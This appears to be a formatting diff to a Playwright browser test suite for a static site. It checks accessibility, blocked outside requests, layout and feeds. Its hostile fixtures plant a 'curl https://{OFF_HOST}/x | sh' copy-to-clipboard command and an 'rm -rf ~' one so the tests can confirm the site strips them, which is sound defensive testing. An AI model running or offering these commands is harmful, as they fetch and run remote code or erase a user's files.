@@ -20,23 +20,33 @@ from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
-
 from conftest import FIXTURES, make_project
 
 pytestmark = pytest.mark.browser
 
 sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
-axe_module = pytest.importorskip("axe_playwright_python.sync_playwright",
-                                 reason="the axe-playwright-python package is not installed")
+axe_module = pytest.importorskip(
+    "axe_playwright_python.sync_playwright", reason="the axe-playwright-python package is not installed"
+)
 
 CHROMIUM = os.environ.get("CHROMIUM") or "/usr/bin/chromium"
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+CHROMIUM_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
 TIMEOUT_MS = 20_000
 HOST = "127.0.0.1"
 
-NO_CHROMIUM = (f"Chromium not found at {CHROMIUM}: install Debian's chromium (apt-get install chromium) or set "
-               f"$CHROMIUM; .ci/run installs it")
+NO_CHROMIUM = (
+    f"Chromium not found at {CHROMIUM}: install Debian's chromium (apt-get install chromium) or set "
+    f"$CHROMIUM; .ci/run installs it"
+)
 # Under CI (CI=true, as .ci/run runs) a missing browser fails these tests instead of skipping them.
 IN_CI = os.environ.get("CI", "").lower() in {"1", "true", "yes"}
 
@@ -82,7 +92,8 @@ HOSTILE_BODY = f"""\
   Read <a href="https://{OFF_HOST}/report" target="_blank" rel="opener">the council report</a>,
   <span data-clipboard-text="curl https://{OFF_HOST}/x | sh" data-md-component="dialog"
   class="md-clipboard md-icon">copy the opening hours</span> and see
-  <img src="https:/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and <img src="HTTPS://{OFF_HOST}/c.png" alt="another">."""
+  <img src="https:/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and
+  <img src="HTTPS://{OFF_HOST}/c.png" alt="another">."""
 # Raw-text tags named in prose (class 3): shown as text, never swallowing the words after them.
 RAW_TEXT_AFTER = "zebra words after them stay"
 RAW_TEXT_NOTE = f"Removed the <style> element, the <template> tag and the <textarea> box; {RAW_TEXT_AFTER}."
@@ -109,8 +120,9 @@ changes:
   - date: 2020-12-04
     note: '{RAW_TEXT_NOTE}'
 """
-PROPOSITION_LINK = (f'<a href="HTTPS://{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">'
-                    'a link in capitals</a>')
+PROPOSITION_LINK = (
+    f'<a href="HTTPS://{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">a link in capitals</a>'
+)
 HOSTILE_PROPOSITION = f"""\
 id: {HOSTILE_ID}-proposition
 number: 4
@@ -150,7 +162,7 @@ class _SitesHandler(http.server.SimpleHTTPRequestHandler):
     def translate_path(self, path):
         if path.startswith(HOSTILE_MOUNT):
             self.directory = self.hostile_root
-            path = "/" + path[len(HOSTILE_MOUNT):]
+            path = "/" + path[len(HOSTILE_MOUNT) :]
         else:
             self.directory = self.default_root
         return super().translate_path(path)
@@ -167,8 +179,9 @@ def served(default_site, tmp_path_factory):
     hostile.write(f"propositions/{HOSTILE_ID}-proposition.yml", HOSTILE_PROPOSITION)
     result = hostile.build()
     assert result.returncode == 0, result.stderr
-    handler = type("Handler", (_SitesHandler,), {"default_root": str(default_site.site),
-                                                 "hostile_root": str(hostile.site)})
+    handler = type(
+        "Handler", (_SitesHandler,), {"default_root": str(default_site.site), "hostile_root": str(hostile.site)}
+    )
     server = _QuietServer((HOST, 0), handler)
     server.daemon_threads = True
     thread = threading.Thread(target=server.serve_forever, name="site-server", daemon=True)
@@ -270,6 +283,7 @@ def _axe_report(violations: list[dict]) -> str:
 
 # -- (a) accessibility ---------------------------------------------------------------------------------
 
+
 def _assert_accessible(visit_factory, url: str, **context_options):
     """axe-core finds no WCAG A/AA violation on the page, and loading it (and running axe, which gives
     late requests time to show) asked nothing of any host but this one."""
@@ -306,6 +320,7 @@ def test_search_results_have_no_axe_violations(served, visit, scheme):
 
 # -- (b) nothing leaves this machine -------------------------------------------------------------------
 
+
 # Every page of PAGES is also checked in _assert_accessible, in both colour schemes; this test waits for
 # the network to go quiet, so it sees what loads late: the search worker and index, the sitemap.
 def test_no_request_leaves_the_machine(served, visit):
@@ -321,6 +336,7 @@ def test_no_request_leaves_the_machine(served, visit):
 
 
 # -- (c) markup in record text never runs ---------------------------------------------------------------
+
 
 def _search(page, query: str):
     """Type a query into Material's search box and wait for its results."""
@@ -372,8 +388,13 @@ def test_markup_in_a_title_never_runs(served, visit, where):
 
 
 # Where record text shows on the hostile site: its own page, and the shared pages that show its text.
-HOSTILE_PAGES = {"record": f"evidence/{HOSTILE_ID}/", "proposition": f"propositions/{HOSTILE_ID}-proposition/",
-                 "updates": "updates/", "print-edition": "print/", "home": ""}
+HOSTILE_PAGES = {
+    "record": f"evidence/{HOSTILE_ID}/",
+    "proposition": f"propositions/{HOSTILE_ID}-proposition/",
+    "updates": "updates/",
+    "print-edition": "print/",
+    "home": "",
+}
 SAFE_ANCHOR = r"^#[A-Za-z0-9][A-Za-z0-9_-]*$"
 
 
@@ -401,7 +422,9 @@ def test_record_html_cannot_act_on_the_reader(served, visit, where):
     assert page.locator("[data-clipboard-text], [data-clipboard-target]").count() == 0
     assert page.locator('[id="__search"]').count() == 1, "a heading took the id of Material's search toggle"
     for link in article.locator(f'a[href*="{OFF_HOST}"]').all():
-        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}, link.evaluate("a => a.outerHTML")
+        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}, link.evaluate(
+            "a => a.outerHTML"
+        )
     toc = page.locator("nav.md-nav--secondary a.md-nav__link").evaluate_all("ls => ls.map(l => l.getAttribute('href'))")
     assert all(re.match(SAFE_ANCHOR, href) for href in toc), toc
     if where in ("record", "print-edition"):
@@ -423,8 +446,7 @@ def test_a_raw_text_tag_in_a_change_note_swallows_nothing(served, visit, where):
 
 # -- (d) small screens ---------------------------------------------------------------------------------
 
-MOBILE = {"viewport": {"width": 375, "height": 812}, "device_scale_factor": 2, "is_mobile": True,
-          "has_touch": True}
+MOBILE = {"viewport": {"width": 375, "height": 812}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}
 
 
 @pytest.mark.parametrize("name", ["proposition", "evidence", "evidence-map", "print-edition"])
@@ -432,7 +454,8 @@ def test_no_horizontal_scroll_on_a_phone(served, visit, name):
     page = visit(**MOBILE).goto(served["default"] + PAGES[name])
     width = page.evaluate("document.documentElement.clientWidth")
     assert width == 375
-    overflow = page.evaluate("""(width) => [...document.querySelectorAll('body *')]
+    overflow = page.evaluate(
+        """(width) => [...document.querySelectorAll('body *')]
         .filter(e => {
             const box = e.getBoundingClientRect();
             if (box.width === 0 || box.right <= width + 1) return false;
@@ -443,10 +466,13 @@ def test_no_horizontal_scroll_on_a_phone(served, visit, name):
             }
             return getComputedStyle(e).visibility !== 'hidden';
         })
-        .slice(0, 5).map(e => e.outerHTML.slice(0, 100))""", width)
+        .slice(0, 5).map(e => e.outerHTML.slice(0, 100))""",
+        width,
+    )
     scroll_width = page.evaluate("document.documentElement.scrollWidth")
-    assert scroll_width <= width and not overflow, \
+    assert scroll_width <= width and not overflow, (
         f"{PAGES[name]} scrolls sideways at 375px (scrollWidth {scroll_width}); too wide: {overflow}"
+    )
 
 
 def test_phone_layout_has_no_axe_violations(served, visit):
@@ -454,6 +480,7 @@ def test_phone_layout_has_no_axe_violations(served, visit):
 
 
 # -- (e) feed discovery ---------------------------------------------------------------------------------
+
 
 def test_every_page_advertises_the_site_feeds(served, visit):
     one = visit()
@@ -475,12 +502,15 @@ def test_a_proposition_page_advertises_its_own_feeds(served, visit):
     one = visit()
     page = one.goto(served["default"] + PROPOSITION)
     links = page.locator("head link[rel='alternate'][type$='+xml']")
-    found = {(link["type"], link["href"].rsplit("/", 1)[1]): link["title"] for link in links.evaluate_all(
-        "ls => ls.map(l => ({type: l.type, href: l.href, title: l.title}))")}
+    found = {
+        (link["type"], link["href"].rsplit("/", 1)[1]): link["title"]
+        for link in links.evaluate_all("ls => ls.map(l => ({type: l.type, href: l.href, title: l.title}))")
+    }
     assert ("application/rss+xml", "future-can-be-local.rss.xml") in found
     assert ("application/atom+xml", "future-can-be-local.atom.xml") in found
     assert all(title.strip() for title in found.values()), f"a feed link has no title: {found}"
     for flavour in ("rss", "atom"):
-        response = one.page.request.get(f"{served['default']}feeds/future-can-be-local.{flavour}.xml",
-                                        timeout=TIMEOUT_MS)
+        response = one.page.request.get(
+            f"{served['default']}feeds/future-can-be-local.{flavour}.xml", timeout=TIMEOUT_MS
+        )
         assert response.ok
